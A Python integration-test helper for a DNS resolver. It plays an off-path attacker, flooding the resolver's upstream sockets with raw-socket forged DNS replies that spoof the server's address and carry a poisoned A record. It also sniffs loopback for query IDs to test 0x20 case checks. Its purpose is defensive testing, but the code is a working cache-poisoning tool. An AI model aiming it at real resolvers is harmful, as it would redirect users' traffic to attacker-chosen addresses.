#!/usr/bin/python3
# spoof_flood.py -- an off-path attacker for tests/integration/resolver_flood.sh.
#
# Usage (as root):
#   spoof_flood.py RESOLVER_PID SERVER_ADDR SERVER_PORT QNAME POISON_ADDR SECONDS [lucky]
#
# While it runs (SECONDS at most, then it exits by itself) it polls
# /proc/net/udp for UDP sockets of process RESOLVER_PID that are connected to
# SERVER_ADDR:SERVER_PORT -- the resolver's upstream sockets towards the
# (slow) authoritative server -- and floods each newly seen one with forged
# DNS replies for QNAME/A carrying POISON_ADDR:
#   - from SERVER_ADDR:SERVER_PORT (so the connected socket takes them), with
#     random query IDs and QNAME in a random 0x20 case;
#   - some from SERVER_ADDR:SERVER_PORT+1 (a wrong source port: the kernel
#     must drop them before the resolver sees them).
# The source address is forged with a raw socket (AF_INET, SOCK_RAW,
# IPPROTO_RAW, so IP_HDRINCL): the IPv4 and UDP headers are built here.
#
# The attacker also watches the loopback interface (an AF_PACKET socket) for
# the resolver's queries to the server, and uses what it sees only to make the
# flood deterministic: every random ID drawn is *different* from the query's
# (a blind attacker hits the right one with odds ~PER_PORT/65536 per query,
# which would make the test's outcome random). Without AF_PACKET it floods
# blind ("blind" is printed).
#
# With the optional word "lucky" it also answers each query seen with LUCKY
# replies carrying the *right* ID from the right port but the question in the
# opposite case of what was sent -- what a lucky ID guess looks like -- to
# exercise the 0x20 check.
#
# Prints one line per flooded port and a summary line "flood done: ..." at the
# end; exits 0 if at least one port was flooded, 2 if none was found, 1 on a
# setup error (e.g. no permission for raw sockets).
#
# Standard library only.
import os
import random
import socket
import struct
import sys
import time

# Forged replies sent to each upstream socket, and how many of them come from
# the wrong source port.
PER_PORT = 3000
WRONG_PORT = 300
LUCKY = 20         # right-ID wrong-case replies per query seen on the wire
BATCH = 100         # packets sent between two short pauses (keeps the socket
PAUSE = 0.002       # buffer from overflowing, so the flood is mostly read)


def inet_csum(data):
    """The Internet checksum (RFC 1071) of data."""
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def udp_ip(src, sport, dst, dport, payload):
    """An IPv4 datagram (RFC 791) carrying a UDP datagram (RFC 768)."""
    s, d = socket.inet_aton(src), socket.inet_aton(dst)
    ulen = 8 + len(payload)
    pseudo = s + d + struct.pack("!BBH", 0, socket.IPPROTO_UDP, ulen)
    csum = inet_csum(pseudo + struct.pack("!HHHH", sport, dport, ulen, 0) + payload) or 0xFFFF
    udp = struct.pack("!HHHH", sport, dport, ulen, csum) + payload
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + ulen, random.getrandbits(16), 0,
                     64, socket.IPPROTO_UDP, 0, s, d)
    ip = ip[:10] + struct.pack("!H", inet_csum(ip)) + ip[12:]
    return ip + udp


def wire(name):
    out = b""
    for label in name.strip(".").split("."):
        out += bytes([len(label)]) + label.encode("ascii")
    return out + b"\0"


def forged_reply(qname, poison, avoid):
    """An authoritative answer qname A poison with a random ID (never avoid) and 0x20 case."""
    qid = random.getrandbits(16)
    while qid == avoid:
        qid = random.getrandbits(16)
    name = "".join(c.upper() if random.getrandbits(1) else c.lower() for c in qname)
    q = wire(name) + struct.pack("!HH", 1, 1)
    hdr = struct.pack("!HHHHHH", qid, 0x8400, 1, 1, 0, 0)
    rr = b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 86400, 4) + socket.inet_aton(poison)
    return hdr + q + rr


def swapcase_name(q):
    """The question section q with every letter of its name in the other case."""
    out, off = bytearray(q), 0
    while off < len(q) - 4 and q[off] != 0:
        n = q[off]
        for i in range(off + 1, off + 1 + n):
            c = out[i]
            if 0x41 <= c <= 0x5A or 0x61 <= c <= 0x7A:
                out[i] = c ^ 0x20
        off += 1 + n
    return bytes(out)


def sniffed_queries(sniff, server, sport):
    """(resolver addr, port, ID, question) of the queries to server:sport on lo."""
    found = []
    while True:
        try:
            pkt, info = sniff.recvfrom(65535)
        except (BlockingIOError, InterruptedError):
            return found
        if info[2] == socket.PACKET_OUTGOING or len(pkt) < 20 or pkt[0] >> 4 != 4:
            continue
        ihl = (pkt[0] & 15) * 4
        if pkt[9] != socket.IPPROTO_UDP or pkt[16:20] != socket.inet_aton(server):
            continue
        udp = pkt[ihl:]
        if len(udp) < 8 + 17 or struct.unpack("!H", udp[2:4])[0] != sport:
            continue
        dns = udp[8:]
        if dns[2] & 0x80:  # a reply, not a query
            continue
        off = 12
        while off < len(dns) and dns[off] != 0:
            off += 1 + dns[off]
        found.append((socket.inet_ntoa(pkt[12:16]), struct.unpack("!H", udp[0:2])[0],
                      struct.unpack("!H", dns[0:2])[0], dns[12:off + 5]))


def socket_inodes(pid):
    """The inodes of the sockets process pid holds open."""
    out = set()
    d = "/proc/%d/fd" % pid
    try:
        fds = os.listdir(d)
    except OSError:
        return out
    for fd in fds:
        try:
            link = os.readlink(os.path.join(d, fd))
        except OSError:
            continue
        if link.startswith("socket:["):
            out.add(link[8:-1])
    return out


def hexaddr(addr, port):
    """addr:port as /proc/net/udp prints it (address in host byte order)."""
    return "%08X:%04X" % (struct.unpack("=I", socket.inet_aton(addr))[0], port)


def upstream_sockets(pid, server, sport):
    """(local address, local port) of pid's UDP sockets connected to server:sport."""
    want = hexaddr(server, sport)
    inodes = socket_inodes(pid)
    found = []
    try:
        with open("/proc/net/udp") as f:
            next(f)
            for line in f:
                fields = line.split()
                if len(fields) < 10 or fields[2] != want or fields[9] not in inodes:
                    continue
                la, lp = fields[1].split(":")
                laddr = socket.inet_ntoa(struct.pack("=I", int(la, 16)))
                found.append((laddr, int(lp, 16)))
    except OSError:
        pass
    return found


def main():
    if len(sys.argv) not in (7, 8) or (len(sys.argv) == 8 and sys.argv[7] != "lucky"):
        sys.stderr.write(__doc__ if __doc__ else "bad usage\n")
        return 1
    pid, server, sport = int(sys.argv[1]), sys.argv[2], int(sys.argv[3])
    qname, poison, secs = sys.argv[4], sys.argv[5], float(sys.argv[6])
    try:
        raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    except OSError as e:
        print("raw socket: %s" % e, flush=True)
        return 1
    lucky_mode = len(sys.argv) == 8
    try:
        sniff = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800))
        sniff.bind(("lo", 0))
        sniff.setblocking(False)
        print("sniffing lo for query IDs to %s:%d%s" % (server, sport,
              " (lucky: right-ID wrong-case replies too)" if lucky_mode else ""), flush=True)
    except (OSError, AttributeError) as e:
        print("blind: no sniffing (%s), random IDs may hit the right one" % e, flush=True)
        sniff = None
    print("flood armed: raw socket open, watching pid %d towards %s:%d" % (pid, server, sport),
          flush=True)
    deadline = time.monotonic() + secs
    seen = set()
    qids = {}  # (resolver addr, port) -> query ID seen on the wire
    sent = wrong = lucky = 0

    def sniff_drain():
        nonlocal lucky
        for raddr, rport, qid, question in (sniffed_queries(sniff, server, sport) if sniff else []):
            qids[(raddr, rport)] = qid
            wrongq = swapcase_name(question)
            if not lucky_mode or wrongq == question:
                continue
            rr = b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 86400, 4) + socket.inet_aton(poison)
            reply = struct.pack("!HHHHHH", qid, 0x8400, 1, 1, 0, 0) + wrongq + rr
            print("query %04x from %s:%d seen: %d replies with its ID in the wrong case"
                  % (qid, raddr, rport, LUCKY), flush=True)
            for _ in range(LUCKY):
                try:
                    raw.sendto(udp_ip(server, sport, raddr, rport, reply), (raddr, 0))
                    lucky += 1
                except OSError:
                    pass

    while time.monotonic() < deadline:
        sniff_drain()
        for laddr, lport in upstream_sockets(pid, server, sport):
            if (laddr, lport) in seen:
                continue
            seen.add((laddr, lport))
            # the query leaves right after connect(); give the sniffer a moment
            wait_until = time.monotonic() + 0.3
            while sniff and (laddr, lport) not in qids and time.monotonic() < wait_until:
                time.sleep(0.002)
                sniff_drain()
            avoid = qids.get((laddr, lport), -1)
            print("flooding %s:%d (query ID %s)" % (laddr, lport,
                  "%04x, avoided" % avoid if avoid >= 0 else "unknown"), flush=True)
            for i in range(PER_PORT):
                src_port = sport + 1 if i % (PER_PORT // WRONG_PORT) == 0 else sport
                pkt = udp_ip(server, src_port, laddr, lport, forged_reply(qname, poison, avoid))
                try:
                    raw.sendto(pkt, (laddr, 0))
                except OSError:
                    continue
                sent += 1
                wrong += src_port != sport
                if i % BATCH == BATCH - 1:
                    time.sleep(PAUSE)
                    sniff_drain()
                if time.monotonic() >= deadline:
                    break
        time.sleep(0.005)
    raw.close()
    if sniff:
        sniff.close()
    print("flood done: %d ports, %d forged replies sent (%d from a wrong source port), "
          "%d with a seen ID in the wrong case" % (len(seen), sent, wrong, lucky), flush=True)
    return 0 if seen else 2


if __name__ == "__main__":
    sys.exit(main())
